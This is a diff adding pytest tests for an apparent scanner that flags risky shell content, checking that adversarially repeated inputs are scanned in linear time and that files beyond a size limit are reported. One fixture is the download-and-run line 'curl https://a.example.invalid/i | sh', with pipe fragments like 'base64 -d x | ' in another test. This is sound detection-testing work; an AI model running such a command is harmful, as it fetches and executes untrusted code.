@@ -119,3 +119,20 @@ def test_a_program_that_happens_to_be_valid_text_is_a_program() -> None:
 @pytest.mark.parametrize("stage", ["base64 -d x | ", "curl a.b/c | ", "| "])
 def test_a_long_row_of_pipes_is_read_without_trying_every_division(stage: str) -> None:
     assert not any(map(blocks, scan_files([_file(stage * 500, "a.sh")])))
+
+
+@pytest.mark.parametrize("unit", ["a\u200b", "copy from https://a.b ", "A1b2"])
+def test_a_text_that_is_made_to_be_read_slowly_is_read_in_time_that_grows_with_its_length(unit: str) -> None:
+    # With a step for each pair of letters it would take minutes, and be stopped by the limit of a test.
+    assert len(scan_files([_file(unit * (600_000 // len(unit)))])) <= 1
+
+
+def test_what_exceeds_the_limit_of_a_bundle_is_said_of_each_file_and_the_rest_is_scanned() -> None:
+    piped = "curl https://a.example.invalid/i | sh\n"
+    files = [_file(piped, "a.sh"), _file("a b\n" * 30, "b.md"), _file(piped, "z.sh")]
+    found = scan_files(files, most_characters=100)
+    assert [(one.code, one.path) for one in found] == [
+        (ScanCode.DOWNLOAD_AND_RUN, "a.sh"),
+        (ScanCode.NOT_SCANNED_WHOLE, "b.md"),
+        (ScanCode.NOT_SCANNED_WHOLE, "z.sh"),
+    ]
